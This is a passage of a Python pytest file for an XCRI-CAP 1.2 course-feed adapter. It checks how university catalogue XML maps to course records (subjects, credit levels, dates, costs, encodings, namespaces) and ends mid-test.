"""The XCRI-CAP 1.2 adapter: real member feeds, a synthetic feed that uses every mapping rule, hostile XML,
and properties over arbitrary input.

The three real samples live in the shared data folder (``../shared/data/xcri-cap`` beside the checkout, see
its README); their tests fail, never skip, where it is absent (tests/shared.py). Synthetic feeds are in ``tests/harvester/data/xcri/``.
"""

from __future__ import annotations

import codecs
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from marshmallow import ValidationError

from directory.catalogue.schema import CourseValidator
from directory.catalogue.vocab import vocabularies
from directory.errors import FeedError
from harvester.formats import xcri_cap
from harvester.formats.base import FeedDocument, Record, Rejection
from harvester.mapping import EMPTY
from harvester.sorting import sort_document
from tests.shared import SHARED, shared_path

ROOT = Path(__file__).resolve().parents[2]
DATA = Path(__file__).parent / "data" / "xcri"
SAMPLES = SHARED / "data" / "xcri-cap"


@pytest.fixture
def shared_samples() -> Path:
    return shared_path("data", "xcri-cap")


needs_samples = pytest.mark.usefixtures("shared_samples")

XCRI = "http://xcri.org/profiles/1.2/catalog"
NAMESPACES = (
    f'xmlns="{XCRI}" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:mlo="http://purl.org/net/mlo" '
    'xmlns:credit="http://purl.org/net/cm" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xmlns:xcriTerms="http://xcri.org/profiles/1.2/catalog/terms" xmlns:xhtml="http://www.w3.org/1999/xhtml"'
)
CREDIT = "<mlo:credit><credit:scheme>CATS</credit:scheme><credit:level>7</credit:level><credit:value>15</credit:value></mlo:credit>"
PRESENTATION = '<presentation><mlo:start dtf="2025-01-13"/><attendanceMode identifier="CM">Campus</attendanceMode></presentation>'


@pytest.fixture(scope="module")
def validator() -> CourseValidator:
    # Learning outcomes required (a member's stricter listing policy), so that the tests also see which
    # records the adapter gives none.
    return CourseValidator(vocabularies(ROOT / "config" / "vocab"), ("learning_outcomes",))


def course(
    extra: str = "",
    *,
    identifier: str = "<dc:identifier>NG-1</dc:identifier>",
    subject: str = '<dc:subject identifier="100366">Computer science</dc:subject>',
    credit: str = CREDIT,
    presentation: str = PRESENTATION,
    outcomes: str = "<learningOutcome>Write a program.</learningOutcome>",
) -> str:
    """A complete course; each keyword replaces one part, ``extra`` adds elements."""
    return (
        f"<course>{identifier}<dc:title>Programming</dc:title>{subject}"
        f"<mlo:url>https://example.ac.uk/c/1</mlo:url>{outcomes}{credit}{extra}{presentation}</course>"
    )


def catalog(*courses: str, encoding: str = "UTF-8") -> bytes:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\n<catalog {NAMESPACES}><provider>'
        "<dc:identifier>10007774</dc:identifier><dc:title>University of Northgate</dc:title>"
        f"{''.join(courses)}</provider></catalog>"
    ).encode(encoding)


def records(document: FeedDocument) -> dict[str, dict]:
    """The records by id, the first of each id (as the pipeline's duplicate-id rule keeps it)."""
    found: dict[str, dict] = {}
    for item in document.items:
        if isinstance(item, Record):
            found.setdefault(item.id, dict(item.raw))
    return found


def rejections(document: FeedDocument) -> list[Rejection]:
    return [item for item in document.items if isinstance(item, Rejection)]


def placed(level: dict) -> dict:
    """A level's placement, without the feed's text the adapter keeps beside it (source, scheme)."""
    return {key: value for key, value in level.items() if key in ("framework", "value")}


def only(data: bytes) -> dict:
    (raw,) = records(xcri_cap.parse(data)).values()
    return raw


def error_fields(validator: CourseValidator, raw: dict) -> set[str]:
    try:
        validator.load(raw)
    except ValidationError as exc:
        return {error.field for error in validator.errors(exc)}
    return set()


# --- the adapter's contract -------------------------------------------------------------------------------


def test_adapter_declares_its_format_and_version():
    assert xcri_cap.FORMAT == "xcri-cap"
    # 2: levels in their own framework; 3: LDCS; 4: scheme labels, level sources; 5: the qualification block
    # kept; 6: ISO-8859-1 as windows-1252; 7: course ids per provider; 8: cf:excludes
    assert xcri_cap.VERSION == "8"


def test_a_climbing_frame_excludes_element_is_a_declared_exclusion_and_nothing_else_of_ours_is_read(validator):
    document = xcri_cap.parse(catalog(course(
        f'<cf:excludes xmlns:cf="{xcri_cap.CF}" course="NG-0" provider="10000002"> replaces NG-0 </cf:excludes>'
        f'<cf:excludes xmlns:cf="{xcri_cap.CF}" course="NG-9"/><cf:other xmlns:cf="{xcri_cap.CF}"/>')))
    (raw,) = records(document).values()
    assert raw["excludes"] == [{"course_id": "NG-0", "provider_id": "10000002", "reason": "replaces NG-0"},
                               {"course_id": "NG-9", "provider_id": None, "reason": None}]
    assert validator.load(raw, "10007774")["excludes"][1] == {"provider_id": "10007774", "course_id": "NG-9",
                                                               "reason": None}
    assert f"course/{{{xcri_cap.CF}}}other" in document.unmapped
    assert f"course/{{{xcri_cap.CF}}}excludes" not in document.unmapped


def test_a_climbing_frame_excludes_element_without_a_course_is_refused_by_the_validator(validator):
    raw = only(catalog(course(f'<cf:excludes xmlns:cf="{xcri_cap.CF}" provider="10000002"/>')))
    assert "excludes[0].course_id" in error_fields(validator, raw)


def test_an_xcri_course_without_exclusions_has_no_excludes():
    assert "excludes" not in only(catalog(course()))


# --- real member feeds ------------------------------------------------------------------------------------


@needs_samples
@pytest.mark.parametrize("name", ["ou-example.xml", "wychwolf-moodle.xml", "oxford-moxie-xcri.xml"])
def test_every_item_of_a_real_feed_is_a_valid_record_or_a_named_validation_error(name, validator):
    document = xcri_cap.parse((SAMPLES / name).read_bytes())
    assert document.total == len(list(document.items)) > 0
    for item in document.items:
        assert isinstance(item, Record | Rejection)
        if isinstance(item, Rejection):
            assert item.reason
            continue
        orjson.dumps(item.raw)
        # None of the three samples publishes learning outcomes; only the OU's courses carry a coded subject
        # (LDCS) and only its a174 a credit scheme we know (SCQF). The validator must say exactly that, and
        # nothing else.
        # The OU's own points scheme is sent under its label, which the validator refuses (credit.scheme).
        assert error_fields(validator, item.raw) <= {"learning_outcomes", "subjects", "credit", "credit.scheme",
                                                     "level"}
        assert "learning_outcomes" in error_fields(validator, item.raw)
        assert ("subjects" in error_fields(validator, item.raw)) == (name != "ou-example.xml")


@needs_samples
def test_open_university_courses_keep_their_scqf_credit_presentations_and_apply_link():
    document = xcri_cap.parse((SAMPLES / "ou-example.xml").read_bytes())
    assert document.provider.id == "http://www.open.ac.uk/"
    assert document.provider.name == "The Open University"
    fiction = records(document)["http://data.open.ac.uk/course/a174"]  # its only identifier is a URL
    assert fiction["title"] == "Start writing fiction"
    assert fiction["credit"] == {"value": 10, "scheme": "SCQF"}  # the "The Open University" scheme is skipped
    assert placed(fiction["level"]) == {"framework": "SCQF", "value": 7}
    assert fiction["schedule"]["type"] == "cohort"
    assert fiction["schedule"]["presentations"][0] == {
        "start": "2011-05-07",
        "end": "2011-08-31",
        "apply_by": "2011-04-08",
    }
    assert len(fiction["schedule"]["presentations"]) == 3
    assert fiction["cost"]["amount"] == "155.00" and fiction["cost"]["currency"] == "GBP"
    assert "Ireland fee" in fiction["cost"]["notes"]
    assert fiction["mode"] == ["online-asynchronous"]  # "Part time distance education course"
    assert fiction["languages"] == ["en"]
    assert fiction["assessment"][0].startswith("You can choose whether to submit")
    assert "<" not in fiction["assessment"][0]
    assert fiction["subject_keywords"] == ["Literature and Creative Writing"]
    assert fiction["subjects"] == [{"scheme": "LDCS", "code": "KC.3"}]  # <dc:subject identifier="KC.3">
    assert fiction["awarding_body"] == {"name": "The Open University"}


@needs_samples
def test_open_university_degree_with_a_1900_placeholder_start_is_learner_led_without_credit(validator):
    document = xcri_cap.parse((SAMPLES / "ou-example.xml").read_bytes())
    history = records(document)["B01"]  # preferred to the URL-less "NLD: 3900010611" by order
    assert history["title"] == "BA (Honours) History"
    assert history["schedule"] == {"type": "learner-led"}
    # 360 points of "The Open University" scheme: sent under its label for a mapping profile to name.
    assert history["credit"] == {"value": 360, "scheme": "The Open University"} and "cost" not in history
    assert history["subjects"] == [{"scheme": "LDCS", "code": "DB."}]  # <dc:subject>LDCS1: DB.</dc:subject>
    assert history["subject_keywords"] == ["History"]
    assert error_fields(validator, history) == {"learning_outcomes", "credit.scheme", "level"}
    assert "presentation/mlo:cost (no amount and currency)" in document.unmapped
    assert "course/mlo:credit (credit:scheme not CATS, ECTS, SCQF or CQFW)" in document.unmapped


@needs_samples
def test_oxford_feed_with_prefixed_namespace_maps_each_course_to_its_own_provider():
    document = xcri_cap.parse((SAMPLES / "oxford-moxie-xcri.xml").read_bytes())
    found = records(document)
    assert set(found) == {"9051", "9072", "9043"}  # the untyped internal ids, not the daisy codes or URLs
    assert document.provider.name == "Humanities Division"
    assert found["9051"]["provider"]["name"] == "Humanities Division"
    assert found["9043"]["provider"] == {
        "id": "http://oxpoints.oucs.ox.ac.uk/id/23233551",
        "name": "Digital Humanities Division",
    }
    workshop = found["9051"]
    assert workshop["title"] == "Monograph Publishing Workshop"
    assert workshop["mode"] == ["on-campus"]
    assert workshop["schedule"]["presentations"][0] == {
        "start": "2012-06-15",
        "end": "2012-06-15",
        "apply_by": "2012-05-28",
        "places": 14,
    }
    assert workshop["apply_url"] == "https://weblearn.ox.ac.uk/course-signup/rest/course/5E00D50013"
    assert "* The publishing mentality" in workshop["summary"]
    assert "presentation/@{http://purl.ox.ac.uk/oxcap/ns/}status" in document.unmapped
    assert "presentation/{http://purl.ox.ac.uk/oxcap/ns/}bookingEndpoint" in document.unmapped
    assert "presentation/xcri:venue" in document.unmapped


@needs_samples
def test_moodle_export_dates_come_from_dtf_even_when_the_text_disagrees():
    document = xcri_cap.parse((SAMPLES / "wychwolf-moodle.xml").read_bytes())
    webcomic = records(document)["http://www.wychwolf.com/moodle/course/view.php?id=5"]
    assert webcomic["title"] == "Creating a webcomic"
    # The text says "31 August 2011"; the machine-readable dtf says 2012-08-31.
    assert webcomic["schedule"]["presentations"] == [
        {"start": "2012-08-01", "end": "2012-08-31", "apply_by": "2012-08-01"}
    ]
    assert webcomic["mode"] == ["online-asynchronous"]  # attendanceMode identifier DS
    assert webcomic["cost"] == {"amount": "0.00", "currency": "GBP", "notes": "free"}
    assert webcomic["summary"] == "This course covers the basics of creating a webcomic."
    assert webcomic["description"].startswith("The web provides a platform")
    assert "course/dc:description[courseDataProgramme:metadataKeywords]" in document.unmapped


# --- a synthetic member feed using every rule ---------------------------------------------------------------


@pytest.fixture(scope="module")
def member_feed() -> FeedDocument:
    return xcri_cap.parse((DATA / "consortium-default-ns.xml").read_bytes())


def test_every_record_of_the_member_feed_validates(member_feed, validator):
    found = records(member_feed)
    assert set(found) == {"DSPP-7", "EDU-OPEN-6", "ECON-WB-5"}
    for raw in found.values():
        validator.load(raw)
        orjson.dumps(raw)


def test_a_course_without_any_identifier_and_a_repeated_identifier_are_rejected(member_feed, validator):
    (missing,) = rejections(member_feed)
    assert missing.field == "course[2]/identifier" and missing.record_id is None
    assert missing.excerpt == "A course nobody can identify"
    assert member_feed.total == 5
    # The repeated identifier is the pipeline's one duplicate-id rule's to quarantine, not the adapter's.
    sorting = sort_document(validator, member_feed, profile=EMPTY)
    (repeated,) = [entry for entry in sorting.quarantine if entry.record_id == "ECON-WB-5"]
    assert repeated.field == "id" and "earlier course" in repeated.reason


def test_provider_is_identified_by_ukprn_and_each_course_by_its_own_provider(member_feed):
    assert member_feed.provider.id == "10007774"
    assert member_feed.provider.id_scheme == "UKPRN"
    assert member_feed.provider.url == "https://www.example-northgate.ac.uk/"
    found = records(member_feed)
    assert found["DSPP-7"]["provider"]["name"] == "University of Northgate"
    assert found["ECON-WB-5"]["provider"] == {
        "id": "https://www.example-southmoor.ac.uk/",
        "name": "Southmoor University",
    }


def test_subjects_come_from_jacs_hecos_and_ldcs_types_identifiers_and_bare_codes(member_feed, validator):
    found = records(member_feed)
    assert found["DSPP-7"]["subjects"] == [
        {"scheme": "JACS3", "code": "I100"},
        {"scheme": "HECoS", "code": "100647"},
        {"scheme": "LDCS", "code": "CK.1"},
    ]
    assert validator.load(found["DSPP-7"])["subjects"][2]["cah1"] == "CAH11"
    assert found["EDU-OPEN-6"]["subjects"] == [{"scheme": "HECoS", "code": "100459"}]
    assert found["ECON-WB-5"]["subjects"] == [{"scheme": "JACS3", "code": "L100"}]
    assert validator.load(found["ECON-WB-5"])["subjects"][0]["name"] == "Economics"
    assert found["ECON-WB-5"]["subject_keywords"] == ["Economics"]
    assert not any("dc:subject[" in note for note in member_feed.unmapped)
    assert (
        member_feed.unmapped.count("course/dc:subject (free text, kept as extension 'subject_keywords')") == 1
    )


def test_texts_map_to_summary_aims_entry_requirements_and_assessment(member_feed):
    policy = records(member_feed)["DSPP-7"]
    assert policy["summary"] == "Use open data and simple models to inform policy decisions."
    assert policy["aims"].startswith("To give policy professionals")
    assert (
        policy["entry_requirements"]
        == "A first degree in any subject, or equivalent professional experience."
    )
    assert policy["assessment"] == ["A 3,000-word policy brief (70%) and a recorded presentation (30%)."]
    assert policy["study_hours"] == 150
    assert "course/dc:description[xcriTerms:careerOutcome]" in member_feed.unmapped


def test_xhtml_learning_outcomes_become_one_item_per_list_item_without_the_lead_in(member_feed):
    assert records(member_feed)["DSPP-7"]["learning_outcomes"] == [
        "clean and explore a public data set with Python",
        "fit and interpret a regression model",
        "communicate uncertainty to a non-specialist audience.",
    ]


def test_plain_and_numbered_learning_outcome_blocks_are_split_into_items(member_feed):
    found = records(member_feed)
    assert (
        found["EDU-OPEN-6"]["learning_outcomes"][1]
        == "Redesign an assessment task using universal design principles"
    )
    assert len(found["EDU-OPEN-6"]["learning_outcomes"]) == 3
    assert found["ECON-WB-5"]["learning_outcomes"] == [
        "explain opportunity cost and marginal analysis",
        "apply cost-benefit analysis to a workplace decision",  # a wrapped line joins its item
        "critique an economic argument in the media.",
    ]


def test_escaped_html_in_a_description_is_reduced_to_text(member_feed):
    assert (
        records(member_feed)["ECON-WB-5"]["summary"]
        == "Apply economic reasoning to decisions in your own workplace."
    )


def test_credit_scheme_is_recognised_in_any_case_or_inside_a_url(member_feed):
    found = records(member_feed)
    assert found["DSPP-7"]["credit"] == {"value": 15, "scheme": "CATS"}
    assert placed(found["DSPP-7"]["level"]) == {"framework": "FHEQ", "value": 7}
    assert found["EDU-OPEN-6"]["credit"] == {"value": 5, "scheme": "ECTS"}
    assert placed(found["EDU-OPEN-6"]["level"]) == {"framework": "FHEQ", "value": 6}  # course mlo:level "Level 6"
    assert found["ECON-WB-5"]["credit"] == {"value": 30, "scheme": "CATS"}


def test_cohort_presentations_take_dates_from_dtf_or_text_in_uk_order(member_feed):
    policy = records(member_feed)["DSPP-7"]
    assert policy["schedule"] == {
        "type": "cohort",
        "presentations": [
            {"start": "2025-01-13", "end": "2025-03-21", "apply_by": "2024-12-15", "places": 40},
            {"start": "2025-04-28", "end": "2025-07-04", "apply_by": "2025-04-01"},
        ],
    }


def test_start_any_time_makes_a_learner_led_course_bounded_by_its_duration(member_feed):
    open_course = records(member_feed)["EDU-OPEN-6"]
    assert open_course["schedule"] == {"type": "learner-led", "max_engagement_days": 180}
    assert open_course["study_hours"] == 50
    assert open_course["cost"] == {"amount": "0.00", "currency": "GBP", "notes": "Free"}


def test_modes_are_collected_across_presentations_from_codes_and_words(member_feed):
    found = records(member_feed)
    assert found["DSPP-7"]["mode"] == ["online-asynchronous", "on-campus"]  # DS, CM
    assert found["EDU-OPEN-6"]["mode"] == ["online-asynchronous"]  # ON
    assert found["ECON-WB-5"]["mode"] == ["blended", "work-based"]  # MM, "Work-based learning"


def test_costs_languages_apply_links_and_qualifications(member_feed):
    found = records(member_feed)
    assert found["DSPP-7"]["cost"] == {"amount": "1200.00", "currency": "GBP"}
    assert found["ECON-WB-5"]["cost"] == {
        "amount": "450.00",
        "currency": "GBP",
        "notes": "£450 (UK); £900 (international)",
    }
    assert found["DSPP-7"]["languages"] == ["en-GB"]
    assert found["EDU-OPEN-6"]["languages"] == ["en"]  # "English"
    assert found["DSPP-7"]["apply_url"] == "https://apply.example-northgate.ac.uk/dspp-7"
    assert found["DSPP-7"]["awarding_body"] == {"name": "University of Northgate"}
    assert found["DSPP-7"]["psrb_recognition"] == [
        {"body": "Royal Statistical Society", "nature": "accreditation"}
    ]


def test_extension_elements_and_attributes_are_reported_once_as_unmapped(member_feed):
    extras = "{http://example.ac.uk/ns/climbing-frame-extras}"
    assert f"course/{extras}badge" in member_feed.unmapped
    assert f"course/@{extras}featured" in member_feed.unmapped
    assert {"presentation/xcri:venue", "presentation/xcri:applyFrom", "presentation/xcri:studyMode"} <= set(
        member_feed.unmapped
    )
    assert len(member_feed.unmapped) == len(set(member_feed.unmapped))
    # An extension's content never leaks into a record under some invented key.
    assert "Open Badge" not in orjson.dumps(records(member_feed)["DSPP-7"]).decode()


# --- encodings and namespaces -------------------------------------------------------------------------------


def test_iso_8859_1_feed_with_prefixed_namespace_maps_pound_sign_and_scqf_credit(validator):
    document = xcri_cap.parse((DATA / "scottish-latin1.xml").read_bytes())
    gaelic = records(document)["GLA-GD-11"]
    assert gaelic["title"] == "Gàidhlig for Professionals"
    assert gaelic["cost"] == {"amount": "850.00", "currency": "GBP"}
    assert gaelic["credit"] == {"value": 15, "scheme": "SCQF"}
    assert placed(gaelic["level"]) == {"framework": "SCQF", "value": 11}
    assert gaelic["subjects"] == [{"scheme": "HECoS", "code": "101120"}]
    assert gaelic["languages"] == ["gd", "en"]
    assert gaelic["schedule"]["presentations"] == [
        {"start": "2025-09-15", "end": "2025-12-12", "apply_by": "2025-08-29"}
    ]
    assert validator.load(gaelic)["level"]["eqf"] == 7
    assert document.provider.id_scheme == "UKPRN"


def test_utf16_feed_with_bom_maps_exactly_as_its_latin1_original():
    latin1 = (DATA / "scottish-latin1.xml").read_bytes()
    text = latin1.decode("iso-8859-1").replace('encoding="ISO-8859-1"', 'encoding="UTF-16"')
    utf16 = text.encode("utf-16")
    assert utf16.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
    assert records(xcri_cap.parse(utf16)) == records(xcri_cap.parse(latin1))


def test_utf8_bom_and_whitespace_before_the_declaration_are_accepted():
    data = codecs.BOM_UTF8 + b"\n  " + catalog(course())
    assert only(data)["id"] == "NG-1"


def test_windows_1252_feed_keeps_its_curly_quotes_and_pound_sign():
    extra = "<abstract>Learn \u201cfast\u201d.</abstract>"
    presentation = PRESENTATION.replace("</presentation>", "<mlo:cost>\u00a3120</mlo:cost></presentation>")
    raw = only(catalog(course(extra, presentation=presentation), encoding="windows-1252"))
    assert raw["summary"] == "Learn \u201cfast\u201d."
    assert raw["cost"]["amount"] == "120.00"


def test_invalid_utf8_bytes_are_replaced_and_reported_instead_of_losing_the_feed(validator):
    data = catalog(course("<abstract>Caf\u00e9 culture</abstract>")).replace("é".encode(), b"\xe9")
    document = xcri_cap.parse(data)
    raw = records(document)["NG-1"]
    assert raw["summary"] == "Caf\ufffd culture"
    assert any(note.startswith("document: invalid UTF-8 bytes replaced") for note in document.unmapped)
    validator.load(raw)


def test_a_catalog_without_any_namespace_is_read_by_local_names(validator):
    data = (
        b'<catalog xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:mlo="http://purl.org/net/mlo">'
        b"<provider><identifier>https://plain.example.ac.uk/</identifier><title>Plain University</title>"
        b"<course><identifier>P-1</identifier><title>Plain course</title><subject>100366</subject>"
        b"<url>https://plain.example.ac.uk/p-1</url><learningOutcome>Write a program.</learningOutcome>"
        b"<credit><scheme>ECTS</scheme><level>EQF 6</level><value>7.5</value></credit>"
        b"<presentation><start>2025-10-06</start><attendanceMode>Online</attendanceMode></presentation>"
        b"</course></provider></catalog>"
    )
    document = xcri_cap.parse(data)
    raw = records(document)["P-1"]
    assert document.provider.name == "Plain University"
    assert raw["credit"] == {"value": 7.5, "scheme": "ECTS"}
    assert placed(raw["level"]) == {"framework": "EQF", "value": 6}
    assert validator.load(raw)["credit"]["cats"] == 15


def test_a_feed_mixing_prefixed_and_default_namespace_elements_is_read_alike():
    prefixed = catalog(course()).replace(b"<course>", b'<xcri:course xmlns:xcri="' + XCRI.encode() + b'">')
    prefixed = prefixed.replace(b"</course>", b"</xcri:course>")
    assert only(prefixed) == only(catalog(course()))


# --- smaller rules, one feed each ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("start", "expected"),
    [
        ("2025-01-13", "2025-01-13"),
        ("2025-01-13T09:00:00Z", "2025-01-13"),
        ("13/01/2025", "2025-01-13"),
        ("13 Jan 2025", "2025-01-13"),
        ("Monday 13th of January 2025", "2025-01-13"),
        ("January 13, 2025", "2025-01-13"),
    ],
)
def test_presentation_start_is_read_from_common_date_formats(start, expected):
    presentation = f"<presentation><mlo:start>{start}</mlo:start></presentation>"
    assert only(catalog(course(presentation=presentation)))["schedule"]["presentations"] == [
        {"start": expected}
    ]


def test_a_placeholder_start_in_1900_means_no_fixed_start():
    presentation = (
        "<presentation><mlo:start>1900-01-01</mlo:start><mlo:duration>12 weeks</mlo:duration></presentation>"
    )
    assert only(catalog(course(presentation=presentation)))["schedule"] == {
        "type": "learner-led",
        "max_engagement_days": 84,
    }


def test_an_unreadable_start_gives_no_schedule_and_is_reported():
    document = xcri_cap.parse(
        catalog(course(presentation="<presentation><mlo:start>Spring term</mlo:start></presentation>"))
    )
    assert "schedule" not in records(document)["NG-1"]
    assert "presentation/mlo:start (not a date)" in document.unmapped


def test_without_any_attendance_mode_the_mode_is_left_out_for_the_validator_to_quarantine(validator):
    raw = only(catalog(course(presentation='<presentation><mlo:start dtf="2025-01-13"/></presentation>')))
    assert "mode" not in raw
    assert error_fields(validator, raw) == {"mode"}


@pytest.mark.parametrize(
    ("level", "expected"),
    [
        ("7", {"framework": "FHEQ", "value": 7}),
        ("Level 6", {"framework": "FHEQ", "value": 6}),
        ("FHEQ 7", {"framework": "FHEQ", "value": 7}),
        ("SCQF 11", {"framework": "SCQF", "value": 11}),
        ("EQF 7", {"framework": "EQF", "value": 7}),
    ],
)
def test_levels_name_their_framework_or_default_to_fheq(level, expected, validator):
    credit = CREDIT.replace("<credit:level>7</credit:level>", f"<credit:level>{level}</credit:level>")
    raw = only(catalog(course(credit=credit)))
    assert placed(raw["level"]) == expected
    validator.load(raw)


def test_a_bare_level_inside_an_scqf_credit_block_is_an_scqf_level():
    credit = "<mlo:credit><credit:scheme>scqf</credit:scheme><credit:level>9</credit:level><credit:value>20</credit:value></mlo:credit>"
    assert placed(only(catalog(course(credit=credit)))["level"]) == {"framework": "SCQF", "value": 9}


def credit_block(scheme: str, level: str, value: str = "15") -> str:
    return (f"<mlo:credit><credit:scheme>{escape(scheme)}</credit:scheme><credit:level>{escape(level)}</credit:level>"
            f"<credit:value>{value}</credit:value></mlo:credit>")


@pytest.mark.parametrize(
    ("scheme", "level", "fheq"),
    [
        # The old CATS numbering: 1, 2, 3, M (and C, I, H, M, D) are FHEQ 4, 5, 6, 7 (8), not FHEQ 1, 2, 3.
        ("CATS", "1", 4), ("CATS", "2", 5), ("CATS", "3", 6), ("CATS", "M", 7), ("CATS", "Level 3", 6),
        ("CATS", "C", 4), ("CATS", "I", 5), ("CATS", "H", 6), ("CATS", "Level M", 7), ("CATS", "D", 8),
        ("CATS", "Level 6", 6), ("CATS", "4", 4),  # FHEQ numbers are FHEQ levels in a CATS block too
        # A university's own points scheme (CATS points, CATS levels): its level is understood, its credit
        # is not a scheme we know (a mapping profile names it).
        ("University of Northgate", "1", 4), ("University of Northgate", "M", 7),
    ],
)
def test_cats_and_university_points_levels_are_read_in_the_old_cats_numbering(scheme, level, fheq, validator):
    raw = only(catalog(course(credit=credit_block(scheme, level))))
    assert placed(raw["level"]) == {"framework": "FHEQ", "value": fheq}
    if scheme == "CATS":
        assert validator.load(raw)["level"]["eqf"] == {4: 5, 5: 5, 6: 6, 7: 7, 8: 8}[fheq]
    else:  # a university's own scheme: under its label, for a mapping profile to name
        assert raw["credit"]["scheme"] == raw["level"]["scheme"] == scheme


@pytest.mark.parametrize(
    ("level", "expected"),
    [
        ("Intermediate 2", {"framework": "SCQF", "value": 5}),
        ("Intermediate 1", {"framework": "SCQF", "value": 4}),
        ("Higher", {"framework": "SCQF", "value": 6}),
        ("SQA Higher", {"framework": "SCQF", "value": 6}),
        ("Advanced Higher", {"framework": "SCQF", "value": 7}),
        ("National 5", {"framework": "SCQF", "value": 5}),
        ("National 3", {"framework": "SCQF", "value": 3}),
        ("Access 3", {"framework": "SCQF", "value": 3}),
        ("Credit Standard Grade", {"framework": "SCQF", "value": 5}),
        ("SVQ Level 3", {"framework": "SCQF", "value": 6}),
        ("SVQ 2", {"framework": "SCQF", "value": 5}),
        ("SCQF Level 6", {"framework": "SCQF", "value": 6}),
        ("RQF Level 3", {"framework": "RQF", "value": 3}),
        ("NQF Level 2", {"framework": "RQF", "value": 2}),
        ("QCF level 1", {"framework": "RQF", "value": 1}),
        ("CQFW 3", {"framework": "CQFW", "value": 3}),
        ("EQF 4", {"framework": "EQF", "value": 4}),
        ("Level 7", {"framework": "FHEQ", "value": 7}),
    ],
)
def test_course_levels_name_scottish_qualifications_and_other_frameworks(level, expected, validator):
    """mlo:level outside a credit block: Scottish names at their SCQF level, not as FHEQ numbers."""
    raw = only(catalog(course(f"<mlo:level>{escape(level)}</mlo:level>", credit="")))
    assert placed(raw["level"]) == expected
    assert error_fields(validator, raw) == {"credit"}  # the level is understood, below higher education too


def test_a_level_typed_with_its_framework_reads_the_number_in_it():
    level = '<mlo:level xsi:type="xcriTerms:SVQ">3</mlo:level><mlo:level>Level 7</mlo:level>'
    assert placed(only(catalog(course(level, credit="")))["level"]) == {"framework": "SCQF", "value": 6}


@pytest.mark.parametrize(
    ("level", "why"),
    [
        ("Level 3", "a bare level 3 names no framework"),
        ("FHEQ 3", "the FHEQ has no level 3"),
        ("Intermediate", "not a qualification name we know"),
        ("SCQF", "it names the SCQF but no level number"),
    ],
)
def test_a_level_that_cannot_be_placed_is_quarantined_quoting_the_feed(level, why, validator):
    document = xcri_cap.parse(catalog(course(f"<mlo:level>{escape(level)}</mlo:level>", credit="")))
    (raw,) = records(document).values()
    assert raw["level"]["source"] == level and why in raw["level"]["problem"]
    with pytest.raises(ValidationError) as caught:
        validator.load(raw)
    reasons = {e.field: e.reason for e in validator.errors(caught.value)}
    assert reasons["level"].startswith(f"level {level!r} cannot be placed: ")
    assert "course/level (not placed in a known framework)" in document.unmapped


def test_the_first_level_that_can_be_placed_wins():
    level = "<mlo:level>Postgraduate</mlo:level><mlo:qualification><mlo:level>SCQF 11</mlo:level></mlo:qualification>"
    assert placed(only(catalog(course(level, credit="")))["level"]) == {"framework": "SCQF", "value": 11}


@needs_samples
def test_the_open_universitys_own_level_1_is_fheq_4_when_it_stands_alone(validator):
    """The OU's a174 carries its credit twice: in its own points scheme (level "1") and as SCQF 7. With the
    SCQF block gone, the OU's level 1 is read in the old CATS numbering (FHEQ 4), not as FHEQ 1."""
    data = (SAMPLES / "ou-example.xml").read_bytes()
    scqf = data.index(b"<credit:scheme>SCQF</credit:scheme>")
    start, end = data.rindex(b"<mlo:credit>", 0, scqf), data.index(b"</mlo:credit>", scqf) + len(b"</mlo:credit>")
    fiction = records(xcri_cap.parse(data[:start] + data[end:]))["http://data.open.ac.uk/course/a174"]
    assert placed(fiction["level"]) == {"framework": "FHEQ", "value": 4}
    # "The Open University" points: a scheme only a mapping profile can name, sent under the feed's label
    assert fiction["credit"] == {"value": 10, "scheme": "The Open University"}
    assert fiction["level"]["source"] == "1" and fiction["level"]["scheme"] == "The Open University"
    assert "level" not in error_fields(validator, fiction)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("£850", {"amount": "850.00", "currency": "GBP"}),
        ("GBP 1,200.00", {"amount": "1200.00", "currency": "GBP"}),
        ("1,200.50 EUR", {"amount": "1200.50", "currency": "EUR"}),
        ("Fee: £95 per module", {"amount": "95.00", "currency": "GBP", "notes": "Fee: £95 per module"}),
    ],
)
def test_cost_text_gives_an_amount_and_currency(text, expected):
    presentation = PRESENTATION.replace(
        "</presentation>", f"<mlo:cost>{escape(text)}</mlo:cost></presentation>"
    )
    assert only(catalog(course(presentation=presentation)))["cost"] == expected


def test_a_cost_without_a_currency_is_left_out_and_reported():
    presentation = PRESENTATION.replace("</presentation>", "<mlo:cost>850</mlo:cost></presentation>")
    document = xcri_cap.parse(catalog(course(presentation=presentation)))
    assert "cost" not in records(document)["NG-1"]
    assert "presentation/mlo:cost (no amount and currency)" in document.unmapped


def test_the_record_id_prefers_an_internal_identifier_over_typed_ones_and_urls():
    identifiers = (
        '<dc:identifier xsi:type="ns:code">T-9</dc:identifier>'
        "<dc:identifier>https://example.ac.uk/id/9</dc:identifier><dc:identifier>9</dc:identifier>"
    )
    assert only(catalog(course(identifier=identifiers)))["id"] == "9"
    assert (
        only(catalog(course(identifier=identifiers.replace("<dc:identifier>9</dc:identifier>", ""))))["id"]
        == "T-9"
    )
    assert only(catalog(course(identifier="")))["id"] == "https://example.ac.uk/c/1"  # mlo:url


def test_isced_f_subjects_need_their_scheme_named(validator):
    subject = '<dc:subject xsi:type="isced:ISCED-F" identifier="0613">Software</dc:subject>'
    raw = only(catalog(course(subject=subject)))
    assert raw["subjects"] == [{"scheme": "ISCED-F", "code": "0613"}]
    validator.load(raw)


@pytest.mark.parametrize(("subject", "expected"), [
    # LDCS as further-education feeds mark it: a type naming LDCS, with the code as identifier or text
    ('<dc:subject xsi:type="courseDataProgramme:LDCS" identifier="KC.3">Creative writing</dc:subject>',
     {"scheme": "LDCS", "code": "KC.3"}),
    ('<dc:subject xsi:type="xcriTerms:LDCS">db.</dc:subject>', {"scheme": "LDCS", "code": "DB."}),
    ('<dc:subject xsi:type="xcriTerms:LDCS" identifier="A">Business</dc:subject>', {"scheme": "LDCS", "code": "A"}),
    # untyped: the full-stop shape of an identifier, upper-case text, or the label the OU writes
